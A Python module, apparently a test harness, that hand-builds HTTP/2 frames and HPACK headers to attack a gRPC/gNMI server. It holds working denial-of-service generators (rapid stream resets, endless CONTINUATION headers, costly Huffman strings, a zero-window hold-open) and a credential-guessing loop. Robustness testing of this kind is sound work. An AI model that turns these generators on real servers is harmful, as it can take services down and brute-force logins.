"""Clients that keep to HTTP/2's frames and to nothing else. Each attack is bounded in bytes and seconds, and ends when it is cut off."""
import itertools
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
INDEXED_POST, INDEXED_HTTP, INDEXED_HTTPS = b"\x83", b"\x86", b"\x87"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value, bits, first):
    """HPACK's integer behind the bits `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([128 | value & 127]), value >> 7
    return out + bytes([value])


def text(value, isHuffman=False):
    return number(len(value), 7, 128 if isHuffman else 0) + value


def literal(name, value, isHuffman=False):
    return b"\x10" + text(name) + text(value, isHuffman)  # never indexed


def call(path=b"/gnmi.gNMI/Capabilities", **metadata):
    fields = b"".join(literal(name.encode(), value.encode()) for name, value in metadata.items())
    return INDEXED_POST + INDEXED_HTTP + b"\x04" + text(path) + literal(b":authority", b"x") + \
        literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + fields


def connect(address, tls=None, source=None):
    """To ("host", port) or the path of a Unix socket; `tls`: an ssl.SSLContext."""
    if isinstance(address, str):
        plain = socket.socket(socket.AF_UNIX)
        plain.settimeout(5)
        plain.connect(address)
    else:
        plain = socket.create_connection(address, timeout=5, source_address=(source, 0) if source else None)
    return tls.wrap_socket(plain, server_hostname="localhost") if tls else plain


def greeted(*where, **how):
    connection = connect(*where, **how)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def withoutWindow(address, count, message):
    """So many Subscribe calls that can be sent nothing: the connection stays open for as long as it is held."""
    connection = connect(address)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    for stream in range(1, 2 * count, 2):
        connection.sendall(frame(HEADERS, END_HEADERS, stream, call(b"/gnmi.gNMI/Subscribe")) +
                           frame(DATA, 0, stream, struct.pack(">BI", 0, len(message)) + message))
    return connection


def client(certificate, key, authority):
    """TLS as gRPC has it, with a certificate."""
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(certificate, key)
    return context


def pour(connection, chunks, seconds, mebibytes):
    """Sends for so long and so much at most; gives the mebibytes that were taken. What comes is read and forgotten."""
    end, sent = time.monotonic() + seconds, 0
    connection.settimeout(seconds)
    try:
        for chunk in chunks:
            if time.monotonic() > end or sent > mebibytes << 20:
                break
            connection.sendall(chunk)
            sent += len(chunk)
            while select.select([connection], [], [], 0)[0]:
                if not connection.recv(1 << 16):
                    return sent / (1 << 20)
    except OSError:
        pass  # cut off, or not read any more
    finally:
        connection.close()
    return sent / (1 << 20)


def rapidResets():
    """Calls that are taken back as soon as they are made."""
    stream = 1
    while True:
        pairs = []
        for _ in range(200):
            pairs += [frame(HEADERS, END_HEADERS, stream, call()), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
            stream += 2
        yield b"".join(pairs)


def endlessHeaders():
    """A call whose header fields do not end."""
    yield frame(HEADERS, 0, 1, call())
    block = b"".join(literal(b"x-%04d" % i, b"y" * 1000) for i in range(15))
    while True:
        yield frame(CONTINUATION, 0, 1, block)


def costlyStrings():
    """Calls with header fields that are much to decode, taken back."""
    stream = 1
    block = call() + literal(b"x", b"\x00" * 12000, isHuffman=True)
    while True:
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        stream += 2


def guesses(names):
    """Calls with a password that is another each time."""
    for stream, name in zip(range(1, 1 << 20, 2), itertools.cycle(names)):
        yield frame(HEADERS, END_HEADERS, stream, call(username=name, password="guess %d" % stream)) + \
            frame(DATA, END_STREAM, stream, b"\0" * 5)
        time.sleep(0.005)


ATTACKS = {"rapid resets": rapidResets, "endless header fields": endlessHeaders, "costly strings": costlyStrings}
